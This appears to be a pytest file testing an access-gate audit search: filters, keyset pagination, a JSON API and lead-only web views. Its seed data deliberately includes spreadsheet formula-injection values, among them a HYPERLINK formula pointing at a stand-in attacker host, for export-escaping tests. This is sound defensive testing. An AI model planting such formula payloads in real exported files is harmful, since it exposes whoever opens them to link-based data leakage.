"""The leads' search over the audit, on SQLite and PostgreSQL: every filter, keyset pages, the JSON API."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from gateway import audit
from gateway.audit_search import Filter, FilterError, batches, search, zone_gates
from gateway.cli import add_operator
from gateway.db.engine import make_engine, session_factory
from gateway.db.models import AuditEntry
from gateway.instance import Instance
from gateway.site import Site
from gateway.web import create_app
from tests.factories import badged_holder

BASE = dt.datetime(2026, 7, 26, 8, 0, tzinfo=dt.UTC)
GATES = ("STA-G1", "STA-G3", "STA-G4", "GDN-G1", "CDG-G2")
ORGS = {
    "GN-75": ("GN-75", "Gendarmerie nationale, Paris", "gendarmerie", "FR"),
    "BPOL": ("BPOL", "Bundespolizei", "police", "DE"),
}


@dataclass(frozen=True)
class Seeded:
    """One decision written by `seed`, with what a filter needs to know about it."""

    ref: str
    seq: int
    at: dt.datetime
    gate: str
    holder: str
    badge: str
    organisation: str
    family_name: str
    allow: bool
    reason: str
    mode: str


@dataclass(frozen=True)
class Data:
    decisions: list[Seeded]
    holders: dict[str, str]  # family name -> holder id
    passages: list[tuple[str, str, dt.datetime]]  # holder id, reader, at


def seed(instance: Instance, site: Site, count: int = 30) -> Data:
    """Three holders in two organisations, `count` decisions across five gates over hours, a few passages.

    Details include text a spreadsheet would run as a formula, for the export tests.
    """
    people = [("Martin", "Lea", "GN-75"), ("Weber", "Jonas", "BPOL"), ("Silva", "Ana", "GN-75")]
    badges = {}
    for family, given, org in people:
        issued = badged_holder(
            instance, site, ["STADIUM-PERIMETER"], BASE, organisation=ORGS[org], name=(family, given)
        )
        badges[family] = (issued.holder_id, issued.id, org)
    entries: list[audit.Entry] = []
    plan: list[dict[str, Any]] = []
    for i in range(count):
        family = people[i % 3][0]
        holder, badge, org = badges[family]
        gate = GATES[i % len(GATES)]
        allow = i % 4 != 0
        reason = "granted" if allow else ("revoked" if i % 8 == 0 else "zone_not_permitted")
        mode = "offline" if i % 7 == 0 else "online"
        at = BASE + dt.timedelta(minutes=10 * i)
        detail = {3: '=HYPERLINK("http://evil.example/?x")', 5: "@SUM(1+1)", 6: "-2+3", 9: "\tTAB"}.get(i, "into")
        ref = f"nonce-{i:04d}"
        entries.append(
            audit.Entry(
                kind="decision",
                at=at,
                recorded_at=at,
                ref=ref,
                reader=f"{gate}-IN",
                gate=gate,
                badge_id=badge,
                holder_id=holder,
                allow=allow,
                reason=reason,
                mode=mode,
                detail=detail,
            )
        )
        plan.append(dict(ref=ref, at=at, gate=gate, holder=holder, badge=badge, organisation=org,
                         family_name=family, allow=allow, reason=reason, mode=mode))  # fmt: skip
    passages = [
        (badges["Martin"][0], "STA-G1-IN", BASE + dt.timedelta(minutes=5)),
        (badges["Weber"][0], "STA-G1-IN", BASE + dt.timedelta(minutes=65)),
        (badges["Martin"][0], "STA-G2-IN", BASE + dt.timedelta(minutes=125)),
        (badges["Weber"][0], "STA-G1-OUT", BASE + dt.timedelta(minutes=185)),
    ]
    for n, (holder, reader, at) in enumerate(passages):
        entries.append(
            audit.Entry(
                kind="gate_event",
                at=at,
                recorded_at=at,
                ref=f"{site.readers[reader].gate}:{n + 1}",
                reader=reader,
                gate=site.readers[reader].gate,
                holder_id=holder,
                reason="passage",
            )
        )
    sessions = session_factory(make_engine(instance.settings.database_url))
    with sessions() as s, s.begin():
        audit.append_many(s, entries)
    with sessions() as s:
        seqs = dict(s.execute(select(AuditEntry.ref, AuditEntry.seq).where(AuditEntry.kind == "decision")).all())
    decisions = [Seeded(seq=seqs[p["ref"]], **p) for p in plan]
    return Data(decisions, {family: badges[family][0] for family, _, _ in people}, passages)


@pytest.fixture
def data(instance: Instance, site: Site) -> Data:
    return seed(instance, site)


@pytest.fixture
def sessions(instance: Instance) -> Any:
    return session_factory(make_engine(instance.settings.database_url))


def expect(data: Data, keep: Callable[[Seeded], bool]) -> list[int]:
    return sorted((d.seq for d in data.decisions if keep(d)), reverse=True)


def found(sessions: Any, site: Site, f: Filter) -> list[int]:
    with sessions() as s:
        return [r.seq for r in search(s, site, f, limit=1000).rows]


def test_zone_filter_covers_gates_into_the_zone_and_its_child_zones(site: Site) -> None:
    assert zone_gates(site, "STADIUM-BOWL") == ["STA-G3", "STA-G4"]
    assert zone_gates(site, "STADIUM-CONCOURSE") == ["STA-G2", "STA-G3", "STA-G4", "STA-G5", "STA-G6"]
    assert zone_gates(site, "AIRPORT-AIRSIDE") == ["CDG-G2"]


def test_each_filter_finds_exactly_the_matching_entries(data: Data, sessions: Any, site: Site) -> None:
    martin, weber = data.holders["Martin"], data.holders["Weber"]
    cases: list[tuple[dict[str, str], Callable[[Seeded], bool]]] = [
        ({}, lambda d: True),
        ({"holder": martin}, lambda d: d.holder == martin),
        ({"name": "webe"}, lambda d: d.family_name == "Weber"),
        ({"name": "ANA"}, lambda d: d.family_name == "Silva"),  # a given name, any case
        ({"badge": data.decisions[1].badge}, lambda d: d.badge == data.decisions[1].badge),
        ({"organisation": "GN-75"}, lambda d: d.organisation == "GN-75"),
        ({"gate": "GDN-G1"}, lambda d: d.gate == "GDN-G1"),
        ({"zone": "STADIUM-BOWL"}, lambda d: d.gate in ("STA-G3", "STA-G4")),
        ({"decision": "deny"}, lambda d: not d.allow),
        ({"decision": "allow"}, lambda d: d.allow),
        ({"reason": "revoked"}, lambda d: d.reason == "revoked"),
        ({"mode": "offline"}, lambda d: d.mode == "offline"),
        (
            {"since": "2026-07-26T09:00", "until": "2026-07-26T11:30"},
            lambda d: BASE + dt.timedelta(hours=1) <= d.at < BASE + dt.timedelta(hours=3, minutes=30),
        ),
        (
            {"organisation": "GN-75", "decision": "deny", "zone": "STADIUM-PERIMETER"},
            lambda d: d.organisation == "GN-75" and not d.allow and d.gate.startswith("STA-"),
        ),
        ({"holder": weber, "gate": "STA-G1", "mode": "online"}, lambda d: d.holder == weber and d.gate == "STA-G1"),
    ]
    for args, keep in cases:
        wanted = expect(data, keep)
        assert found(sessions, site, Filter.from_args(args, site, kind="decision")) == wanted, args
    assert any(found(sessions, site, Filter.from_args(a, site, kind="decision")) == [] for a in [{"name": "zzz"}])


def test_kind_any_includes_gate_events_and_desk_actions(data: Data, sessions: Any, site: Site) -> None:
    everything = found(sessions, site, Filter.from_args({"kind": "any"}, site))
    assert len(everything) > len(data.decisions) + len(data.passages)  # badge issuing is audited too
    passages = found(sessions, site, Filter.from_args({"kind": "gate_event", "reason": "passage"}, site))
    assert len(passages) == len(data.passages)
    trail = found(sessions, site, Filter.from_args({"holder": data.holders["Weber"]}, site))
    assert set(expect(data, lambda d: d.holder == data.holders["Weber"])) < set(trail)


def test_keyset_pages_walk_every_entry_once_newest_first(data: Data, sessions: Any, site: Site) -> None:
    f = Filter.from_args({"organisation": "GN-75"}, site, kind="decision")
    seen: list[int] = []
    before = None
    pages = 0
    with sessions() as s:
        while True:
            page = search(s, site, f, before, limit=3)
            seen += [r.seq for r in page.rows]
            pages += 1
            if page.next_cursor is None:
                break
            assert page.next_cursor == page.rows[-1].seq
            before = page.next_cursor
    wanted = expect(data, lambda d: d.organisation == "GN-75")
    assert seen == wanted and pages == -(-len(wanted) // 3)
    streamed = [r.seq for rows in batches(sessions, site, f, size=4) for r in rows]
    assert streamed == wanted


def test_results_name_the_holder(data: Data, sessions: Any, site: Site) -> None:
    with sessions() as s:
        rows = search(s, site, Filter.from_args({"holder": data.holders["Silva"]}, site, kind="decision")).rows
    assert rows and {(r.family_name, r.given_name) for r in rows} == {("Silva", "Ana")}


@pytest.mark.parametrize(
    "args",
    [{"decision": "maybe"}, {"mode": "radio"}, {"zone": "MOON"}, {"since": "yesterday"},
     {"since": "2026-07-26T10:00", "until": "2026-07-26T09:00"}],
)  # fmt: skip
def test_bad_filters_are_refused_with_the_argument_named(site: Site, args: dict[str, str]) -> None:
    with pytest.raises(FilterError, match=next(iter(args)) if "until" not in args else "until"):
        Filter.from_args(args, site)


# --- web: pages and the JSON API ---------------------------------------------------------------------------


@pytest.fixture
def app(instance: Instance) -> Flask:
    add_operator(instance, "lead1", "lead", "lead-password-1")
    add_operator(instance, "desk1", "desk", "desk-password-1")
    return create_app(instance.folder, {"SESSION_COOKIE_SECURE": False, "WTF_CSRF_ENABLED": False})


def logged_in(app: Flask, user: str) -> FlaskClient:
    client = app.test_client()
    response = client.post("/login", data={"username": user, "password": f"{user[:-1]}-password-1"})
    assert response.status_code == 302
    return client


def token(instance: Instance, user: str) -> dict[str, str]:
    from gateway import operators

    with session_factory(make_engine(instance.settings.database_url))() as s, s.begin():
        secret, _ = operators.new_api_token(s, operators.find(s, user), "test", dt.datetime.now(dt.UTC))  # type: ignore[arg-type]
    return {"Authorization": f"Bearer {secret}"}


def test_api_filters_and_walks_pages_through_the_link_header(app: Flask, instance: Instance, data: Data) -> None:
    client, headers = app.test_client(), token(instance, "lead1")
    url: str | None = "/api/v1/decisions?decision=deny&limit=2"
    seqs: list[int] = []
    while url:
        response = client.get(url, headers=headers)
        assert response.status_code == 200
        body = response.get_json()
        assert all(d["allow"] is False and d["nonce"].startswith("nonce-") for d in body)
        seqs += [d["seq"] for d in body]
        link = response.headers.get("Link")
        url = link[1 : link.index(">")] if link else None
        if url:
            assert response.headers["X-Next-Before"] == str(body[-1]["seq"])
    assert seqs == expect(data, lambda d: not d.allow)
    bowl = client.get("/api/v1/decisions?zone=STADIUM-BOWL&limit=1000", headers=headers).get_json()
    assert [d["seq"] for d in bowl] == expect(data, lambda d: d.gate in ("STA-G3", "STA-G4"))


def test_api_refuses_a_bad_filter_with_a_json_error(app: Flask, instance: Instance) -> None:
    response = app.test_client().get("/api/v1/decisions?decision=perhaps", headers=token(instance, "lead1"))
    assert response.status_code == 400 and response.get_json()["error"] == "bad_filter"
    assert "decision" in response.get_json()["detail"]


def test_search_page_pages_with_an_older_link(app: Flask, data: Data) -> None:
    lead = logged_in(app, "lead1")
    html = lead.get("/leads/search?gate=STA-G1").get_data(as_text=True)
    wanted = expect(data, lambda d: d.gate == "STA-G1")
    assert [int(s) for s in _seqs(html)] == wanted[:50]
    assert 'id="older"' not in html  # six entries: one page
    html = lead.get("/leads/search?kind=any&before=10").get_data(as_text=True)
    assert _seqs(html) and all(int(s) < 10 for s in _seqs(html))
    assert lead.get("/leads/search?decision=nope").status_code == 400


def test_trail_and_gate_traffic_pages(app: Flask, data: Data) -> None:
    lead = logged_in(app, "lead1")
    weber = data.holders["Weber"]
    html = lead.get(f"/leads/trail/{weber}").get_data(as_text=True)
    assert "Weber Jonas" in html and "Bundespolizei" in html
    assert set(expect(data, lambda d: d.holder == weber)) <= {int(s) for s in _seqs(html)}
    assert lead.get("/leads/trail/no-such-holder").status_code == 404
    html = lead.get("/leads/traffic/GDN-G1").get_data(as_text=True)
    assert {int(s) for s in _seqs(html)} == set(expect(data, lambda d: d.gate == "GDN-G1"))
    assert lead.get("/leads/traffic/NOPE").status_code == 404
    assert 'data-gate="CDG-G2"' in lead.get("/leads/traffic").get_data(as_text=True)


def test_leads_views_are_for_leads_only(app: Flask, instance: Instance, data: Data) -> None:
    desk = logged_in(app, "desk1")
    for path in ("/leads/search", "/leads/traffic", "/leads/dashboard"):
        assert desk.get(path).status_code == 403, path
    assert desk.post("/leads/search/export.csv").status_code == 403
    assert logged_in(app, "lead1").get("/leads/search/export.csv").status_code == 405  # an audited action: POST
    assert app.test_client().get("/api/v1/decisions", headers=token(instance, "desk1")).status_code == 403


def _seqs(html: str) -> list[str]:
    import re

    return re.findall(r'<tr class="entry" data-seq="(\d+)"', html)
